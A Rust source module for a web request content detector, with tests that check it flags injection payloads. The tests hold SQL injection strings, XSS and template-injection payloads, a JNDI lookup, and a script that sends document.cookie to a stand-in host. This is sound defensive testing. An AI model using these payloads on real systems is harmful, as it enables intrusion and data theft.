//! Content detection: attacks in one value.
//!
//! Three stages. [`marks`] clear most values for most recognisers. A recogniser for each kind of [`attack`] says what it
//! sees, as [`sign`]s: it tokenises, and knows in which place its language would read the value. A [`model`] weighs the
//! signs, together with what the value is like as a whole, and gives one score a kind. Of a long value each window is looked
//! at by itself besides, for what nobody sends who does not attack: nothing that stands around it outweighs that. Nothing here refuses: a clause
//! does, from the score on that an operator chose.
//!
//! Reads    one decoded value of any bytes and length.
//! Writes   at most one [`Sighting`] a kind, none below [`SCORE_MIN`].
//! Memory   the tokens of one fragment.
//! Errors   none.
//! Misses   what no recogniser reads (see each of them), and what is encoded in a way that the reader does not decode.
//! Source   measured on labelled requests of others: `docs/detection.md`.

pub mod attack;
mod caseless;
mod command;
mod command_disguise;
mod command_line;
mod command_names;
mod core;
mod graphql;
mod host;
mod ldap;
mod line;
mod lookup;
pub mod marks;
pub mod model;
mod nosql;
mod object;
mod part;
mod prefilter;
mod prototype;
mod scanner;
mod script;
mod script_code;
mod script_markup;
mod server_request;
pub mod shape;
pub mod sign;
mod sql;
mod sql_break_out;
mod sql_tokens;
mod sql_traits;
mod template;
mod traversal;
mod traversal_path;
mod weights;
mod window;
mod xml;
mod xpath;

pub use core::core;
use window::windows;

use attack::{Attack, Attacks};
use bartizan_model::code::Code;
use bartizan_model::evidence::Sighting;
use marks::Marks;
use shape::Shape;
use sign::{Input, Signs, Strength};

/// Scores below say nothing, and are not told.
pub const SCORE_MIN: u16 = 300;

/// What one message may cost: suspicious bytes that are looked at closely. Clearing a value is
/// cheap and not counted; without a bound a megabyte of suspicious values would hold a worker for
/// half a second.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Effort {
    bytes_left: usize,
    window_bytes_left: usize,
}

impl Effort {
    /// So many suspicious bytes, and what each suspicious value costs besides its length.
    pub const fn new(bytes_max: usize) -> Self {
        Self { bytes_left: bytes_max, window_bytes_left: bytes_max / WINDOWS_SHARE }
    }

    /// Suspicious bytes that may still be looked at.
    pub const fn bytes_left(&self) -> usize {
        self.bytes_left
    }

    /// Bytes of windows of long values that may still be looked at. Behind them values are looked at as a whole alone.
    pub const fn window_bytes_left(&self) -> usize {
        self.window_bytes_left
    }

    fn spend_window(&mut self, bytes: usize) -> bool {
        let left = self.window_bytes_left.checked_sub(bytes);
        self.window_bytes_left = left.unwrap_or(0);
        left.is_some()
    }

    /// Takes exactly so many bytes; false, and nothing taken, if there are not enough.
    pub const fn spend_exactly(&mut self, bytes: usize) -> bool {
        match self.bytes_left.checked_sub(bytes) {
            Some(left) => {
                self.bytes_left = left;
                true
            }
            None => false,
        }
    }

    /// Takes what a value costs; false if there is not enough left.
    fn spend(&mut self, text: &[u8]) -> bool {
        let cost = text.len().min(VALUE_COST_BYTES_MAX).saturating_add(VALUE_COST_BYTES);
        match self.bytes_left.checked_sub(cost) {
            Some(left) => {
                self.bytes_left = left;
                true
            }
            None => {
                self.bytes_left = 0;
                false
            }
        }
    }
}

/// A window takes as long as so many bytes of a value.
const WINDOWS_SHARE: usize = 10;

/// What is counted for a suspicious value beside its own bytes.
const VALUE_COST_BYTES: usize = 32;

/// The most that is counted for its own bytes: the recognisers read no more of it.
const VALUE_COST_BYTES_MAX: usize = 3 * 1024;

/// The message had more suspicious bytes than are looked at: this value was not.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Exhausted;

/// Signs that are usual in a field, a bit each, by the code of their findings.
pub type UsualHere<'a> = &'a [(Code, u32)];

/// One decoded value, of which the marks were looked at.
#[derive(Clone, Copy, Debug)]
pub struct FirstLook<'a> {
    input: Input<'a>,
    attacks: Attacks,
}

impl<'a> FirstLook<'a> {
    /// Looks at the marks.
    pub fn of(text: &'a [u8], is_name: bool) -> Self {
        let input = Input::of(text, is_name);
        Self { input, attacks: Attacks::that_may_be(&input) }
    }

    /// The value.
    pub const fn text(&self) -> &'a [u8] {
        self.input.text
    }

    /// Whether it is a name: of a parameter, a cookie or a field.
    pub const fn is_name(&self) -> bool {
        self.input.is_name
    }

    /// Whether no recogniser would see anything. It costs nothing of the effort of its message.
    pub fn is_plain(&self) -> bool {
        self.attacks.is_empty() && !core::is_long(self.input.text) && !self.is_costly()
    }

    /// Whether recognisers take long over it: those of SQL and of what runs in browsers.
    fn is_costly(&self) -> bool {
        let markup = Marks::LESS.and(Marks::EQUALS).and(Marks::GREATER);
        self.input.may_be_sql || self.input.marks.has_any(markup)
    }

    /// Looks closely, within the effort that its message has left: at most one sighting a kind of attack. All
    /// are told, since a clause that is observed or excepted must not hide the violation of another. Signs that are usual where
    /// it stands speak for nothing, unless nobody sends them who does not attack; what shows them is told all the same, with the
    /// score of what is left.
    ///
    /// # Errors
    ///
    /// [`Exhausted`] if the value is suspicious and there is no effort left for it.
    pub fn examine(
        &self,
        usual: UsualHere<'_>,
        effort: &mut Effort,
    ) -> Result<Vec<Sighting>, Exhausted> {
        if self.is_costly() && !effort.spend(self.input.text) {
            return Err(Exhausted);
        }
        Ok(self.sightings(usual, effort))
    }

    fn sightings(&self, usual: UsualHere<'_>, effort: &mut Effort) -> Vec<Sighting> {
        let mut found = self.sightings_of_all(usual);
        if self.input.is_name {
            return found;
        }
        let text = self.input.text;
        let core = core(text).map(|it| FirstLook::of(it, false).sightings_of_all(usual));
        surest(&mut found, core.unwrap_or_default());
        for window in windows(text) {
            let it = FirstLook::of(window, false);
            let attacks = it.attacks.within_text(it.input.marks);
            if !attacks.is_empty() && effort.spend_window(window.len()) {
                let it = FirstLook { attacks, ..it };
                surest(&mut found, it.certain_sightings(usual));
            }
        }
        found
    }

    fn sightings_of_all(&self, usual: UsualHere<'_>) -> Vec<Sighting> {
        let look = |attack: Attack| Some(attack.look(&self.input)).filter(|it| !it.is_empty());
        self.sightings_by(look, usual)
    }

    /// Of what stands in the midst of a text: kinds of which a sign is there that nobody sends who does not attack.
    fn certain_sightings(&self, usual: UsualHere<'_>) -> Vec<Sighting> {
        let look = |attack: Attack| {
            let signs = attack.look(&self.input).without(attack.usual_in_text());
            Some(signs).filter(|it| it.strength(attack.signs()) == Some(Strength::Certain))
        };
        self.sightings_by(look, usual)
    }

    fn sightings_by(
        &self,
        look: impl Fn(Attack) -> Option<Signs>,
        usual: UsualHere<'_>,
    ) -> Vec<Sighting> {
        let Self { input, attacks } = self;
        let mut shape = None;
        let mut found = Vec::new();
        for attack in *attacks {
            let Some(signs) = look(attack) else { continue };
            let shape = *shape.get_or_insert_with(|| Shape::of(input.text, input.is_name));
            let code = attack.code();
            let usual = usual.iter().find(|it| it.0 == code).map_or(0, |it| it.1);
            let left = signs.without(attack.usual_at_most(usual));
            let score = if left.is_empty() { 0 } else { attack.score(left, shape) };
            if score >= SCORE_MIN || left != signs {
                let fingerprint = model::fingerprint(signs);
                found.push(Sighting { code, score, fingerprint });
            }
        }
        found
    }
}

/// Of each kind the surer sighting.
fn surest(all: &mut Vec<Sighting>, more: Vec<Sighting>) {
    for it in more {
        match all.iter_mut().find(|known| known.code == it.code) {
            Some(known) if known.score >= it.score => {}
            Some(known) => *known = it,
            None => all.push(it),
        }
    }
}

/// All sightings in one decoded value, whatever it costs. For evaluation.
pub fn examine(text: &[u8], is_name: bool) -> Vec<Sighting> {
    FirstLook::of(text, is_name).sightings(&[], &mut Effort::new(usize::MAX))
}

/// Whether a value has any sign of what a browser runs, however weak.
pub fn may_run_in_browsers(text: &[u8]) -> bool {
    !Attack::Script.look(&Input::of(text, false)).is_empty()
}

/// What each recogniser sees in one value. For training and evaluation.
pub fn signs(text: &[u8], is_name: bool) -> impl Iterator<Item = (Attack, Signs)> {
    let input = Input::of(text, is_name);
    let seen = Attack::ALL.iter().map(move |&it| (it, it.look(&input)));
    seen.filter(|it| !it.1.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;

    const REFUSES: u16 = bartizan_model::content_level::ContentLevel::CAUTIOUS.score_min();

    #[track_caller]
    fn refused(code: Code, values: &[&str]) {
        for value in values {
            for text in [(*value).to_owned(), mixed_case(value)] {
                let found = examine(text.as_bytes(), false);
                let is_refused = |it: &Sighting| it.code == code && it.score >= REFUSES;
                assert!(found.iter().any(is_refused), "{text}: {found:?}");
            }
        }
    }

    fn mixed_case(text: &str) -> String {
        let change = |(at, it): (usize, char)| {
            if at % 2 == 0 { it.to_ascii_uppercase() } else { it.to_ascii_lowercase() }
        };
        text.chars().enumerate().map(change).collect()
    }

    #[test]
    fn effort_is_spent_on_suspicious_values_only() {
        let mut effort = Effort::new(100);
        assert_eq!(FirstLook::of(&[b'x'; 1_000], false).examine(&[], &mut effort), Ok(Vec::new()));
        assert_eq!(effort.bytes_left(), 100);
        assert_eq!(FirstLook::of(b"' OR 1=1--", false).examine(&[], &mut effort).unwrap().len(), 1);
        assert_eq!(effort.bytes_left(), 58);
        let words = b"it's a long sentence of words";
        assert_eq!(FirstLook::of(words, false).examine(&[], &mut effort), Err(Exhausted));
        assert_eq!(FirstLook::of(b"plain", false).examine(&[], &mut effort), Ok(Vec::new()));
    }

    #[test]
    fn what_is_usual_speaks_for_nothing_but_for_what_nobody_else_sends() {
        let mut effort = Effort::new(100_000);
        let text = b"if (a == '1' or b == '2') -- no";
        let before = examine(text, false);
        let [seen] = before.as_slice() else { panic!("{before:?}") };
        let signs = u32::from_str_radix(&seen.fingerprint.to_string(), 16).unwrap();
        let usual = [(seen.code, signs)];
        let now = FirstLook::of(text, false).examine(&usual, &mut effort).unwrap();
        assert!(now.iter().all(|it| it.score < SCORE_MIN), "{now:?}");
        assert_eq!(now.first().map(|it| it.fingerprint), Some(seen.fingerprint), "it is told");
        // All signs of another attack are usual as well: what is certain counts nevertheless.
        let attack = b"x' UNION SELECT email, password, 1 FROM users --";
        let usual = [(Code::ContentSqlInjection, u32::MAX)];
        let now = FirstLook::of(attack, false).examine(&usual, &mut effort).unwrap();
        assert!(now.iter().any(|it| it.score >= REFUSES), "{now:?}");
        let other = [(Code::ContentScriptInjection, u32::MAX)];
        assert_eq!(FirstLook::of(text, false).examine(&other, &mut effort).unwrap(), before);
    }

    #[test]
    fn sql_that_breaks_out_is_refused() {
        refused(
            Code::ContentSqlInjection,
            &[
                "' OR 1=1--",
                "' OR '1'='1",
                "' OR '1'='1' --",
                "') OR ('a'='a",
                "\\' OR 1=1 -- ",
                "\" or \"\"=\"",
                "x' UNION SELECT email, password, 1 FROM users --",
                "%' UNION/**/SELECT name,email FROM users--",
                "1 UNION SELECT username, password FROM users",
                "1/*!50000UNION*/ SELECT 1,2",
                "-1 union all select null,null#",
                "'; DROP TABLE users;--",
                "1; DROP TABLE users--",
                "x'; EXEC xp_cmdshell 'dir'--",
                "1; WAITFOR DELAY '0:0:5'--",
                "1 AND SLEEP(5)",
                "' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -",
                "'||(SELECT password FROM users LIMIT 1)||'",
                "1 AND ASCII(SUBSTRING((SELECT user()),1,1))>64",
                "1-0 or 2=2",
                "x') as t where 1=1 union select 1,2--",
                "1' ORDER BY 3--",
                "' or name like '%a%",
                "' or role = 'admin' --",
                "' or t.user = 'admin' #",
                "1 or/**/1=1",
                "1' or true#",
            ],
        );
    }

    #[test]
    fn harmless_texts_that_look_like_attacks_pass() {
        let lines = include_str!("../../training/harmless.txt").lines();
        for line in lines.filter(|it| !it.starts_with("# ")) {
            let text = line.replace("\\r", "\r").replace("\\n", "\n");
            let found = examine(text.as_bytes(), false);
            assert!(found.iter().all(|it| it.score < REFUSES), "{text}: {found:?}");
        }
    }

    #[test]
    fn html_that_breaks_out_or_probes_is_refused() {
        refused(
            Code::ContentScriptInjection,
            &[
                "<script>alert(1)</script>",
                "\"><script>alert('xss')</script>",
                "x'/><img src=x onerror=fetch('//e')>",
                "</textarea><svg onload=alert(1)>",
                "--><svg/onload=alert(1)>",
                "\" onmouseover=\"alert(1)",
                "<a href=\"java\tscript:alert(document.cookie)\">x</a>",
                "<img src=x onerror=alert`1`>",
            ],
        );
    }

    #[test]
    fn what_stands_between_many_words_is_looked_at_by_itself() {
        let words = "know the quick order would thanks ".repeat(120);
        for attack in ["<svg/onload=alert(1)>", "${T(java.lang.Runtime).getRuntime().exec('id')}"] {
            for text in [
                format!("{words}{attack}"),
                format!("{attack} {words}"),
                format!("{words}{attack} {words}"),
                format!("{attack}<!-- {words} -->"),
            ] {
                let found = examine(text.as_bytes(), false);
                assert!(found.iter().any(|it| it.score >= REFUSES), "{attack}: {found:?}");
            }
        }
        assert_eq!(core(b"short words 1 of them"), None);
        assert_eq!(core(format!("{words} call `type` {words}").as_bytes()), None);
        assert_eq!(core(words.as_bytes()), None);
    }

    #[test]
    fn what_stands_in_the_midst_of_any_text_is_found() {
        let mut missed = Vec::new();
        for around in [
            "2026-11-03 12:11:09 INFO worker[12] request id=2211 took 33ms\n",
            "fn f(x: u32) -> u32 { let y = x + 4; y * 2 }\n",
            "<p>the order came late and we would like it</p>\n",
        ] {
            let around = around.repeat(4_000 / around.len());
            for attack in [
                "<script>fetch('//e.example/'+document.cookie)</script>",
                "x' UNION SELECT email, password, 1 FROM users --",
                "{{''.__class__.__mro__[1].__subclasses__()}}",
                "${jndi:ldap://e.example/a}",
            ] {
                for text in [format!("{around}{attack}\n{around}"), format!("{around}{attack}")] {
                    let found = examine(text.as_bytes(), false);
                    if !found.iter().any(|it| it.score >= REFUSES) {
                        missed.push((attack, around.get(..12).map(str::to_owned)));
                    }
                }
            }
        }
        assert_eq!(missed, []);
        // Code that calls programs, and text that names addresses, are text.
        let diff = "-    os.system(\"python setup.py sdist upload\")\n";
        let text = format!(
            "{0}{diff} see http://127.0.0.1:8080/ there\n{0}",
            " let y = (x + 4) * 2;\n".repeat(600)
        );
        let found = examine(text.as_bytes(), false);
        assert!(found.iter().all(|it| it.score < REFUSES), "{found:?}");
    }

    #[test]
    fn a_break_out_is_found_behind_much_text() {
        let long = format!("{}' OR 1=1--", "lorem ipsum ".repeat(5_000));
        refused(Code::ContentSqlInjection, &[&long]);
    }

    #[test]
    fn clean_values_have_no_sighting() {
        for text in ["", "alice", "a@b.c", "2026-01-31", "Hello, world", "ça va"] {
            assert_eq!(examine(text.as_bytes(), false), []);
        }
    }

    #[test]
    fn hostile_values_take_bounded_time() {
        for unit in
            ["'", "\"", "(", "/*", "--\n", "<", "<a ", "=", "<%", "or 1=", "' or ", "`", "["]
        {
            let text: Vec<u8> = unit.bytes().cycle().take(64 * 1024).collect();
            let start = std::time::Instant::now();
            examine(&text, false);
            assert!(start.elapsed().as_millis() < 500, "{unit}");
        }
    }
}
